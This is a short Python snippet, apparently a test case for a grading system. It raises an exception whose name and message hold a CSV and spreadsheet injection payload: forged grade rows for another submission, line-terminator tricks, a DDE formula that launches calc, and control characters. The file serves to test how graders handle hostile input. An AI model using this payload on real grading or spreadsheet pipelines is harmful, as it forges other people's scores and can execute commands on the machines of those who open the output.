# An error's name and text are rows of the tables of grades, with quotes, commas and ends of lines of every kind.
# from: ours
# aims: other-submission
# outcome: graded
# score: 7
# others: right

# %% exercise="weigh"
row = '",\r\nvictim,01_target,0,9,graded,\n"attack-x,01_target,9,9,graded,\x85\u2028\u2029\x0b\x0c'
raise type(row, (Exception,), {})(row + "\uff1dcmd|' /C calc'!A0" + "\t=1+1" + "\0\x1b[31m\u202e")
